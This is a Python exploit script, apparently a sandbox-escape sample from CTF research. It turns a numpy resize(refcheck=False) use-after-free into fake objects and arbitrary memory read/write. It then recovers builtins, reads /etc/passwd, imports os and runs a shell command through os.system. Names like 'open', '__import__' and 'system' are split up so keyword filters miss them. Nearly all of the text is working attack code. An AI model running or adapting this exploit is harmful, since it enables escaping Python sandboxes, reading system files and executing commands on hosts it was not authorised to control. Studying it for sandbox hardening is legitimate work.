# source: numpy docs ndarray.resize ("refcheck=False ... dangerous", https://numpy.org/doc/stable/reference/generated/numpy.ndarray.resize.html)
#         + fake-bytearray arbitrary R/W from Lydxn/pyjail-tricks uaf_mappingproxy.py (https://github.com/Lydxn/pyjail-tricks, DiceCTF 2024 "irs") and id()==address
# family: memory corruption through an allowed numpy API (resize(refcheck=False) leaves a dangling view -> UAF -> fakeobj/arbitrary R/W)
# goal: builtins dict via the func_builtins pointer of a local function -> open() reads /etc/passwd; os module; os.system("id")
import numpy as np

N = 512
prices = np.zeros(N, dtype=np.uint64)
window = prices[:]
prices.resize(N * 64, refcheck=False)      # frees the old buffer; window still points at it
slots = [None] * N                         # its item array takes the freed buffer
none_addr = id(None)


def p64(x):
    return int(x).to_bytes(8, "little")


def fakeobj(addr, k=1):
    window[k] = addr
    o = slots[k]
    window[k] = none_addr
    return o


# a bytearray header whose buffer is the whole address space
hdr = p64(2 ** 40) + p64(id(bytearray)) + p64(2 ** 62) + p64(2 ** 62) + p64(0) + p64(0) + p64(0)
mem = fakeobj(id(hdr) + 32)


def read64(addr):
    return int.from_bytes(bytes(mem[addr:addr + 8]), "little")


def strategy():
    return 0


bi = fakeobj(read64(id(strategy) + 24))    # PyFunctionObject.func_builtins
print(type(bi), len(bi))
name = "".join(["op", "en"])
path = "".join([chr(47), "etc", chr(47), "passwd"])
print(bi[name](path).read())
imp = chr(95) * 2 + "import" + chr(95) * 2
osmod = bi[imp]("o" + "s")
print(osmod)
osdict = fakeobj(read64(id(osmod) + 16))   # PyModuleObject.md_dict
osdict["sys" + "tem"]("id")
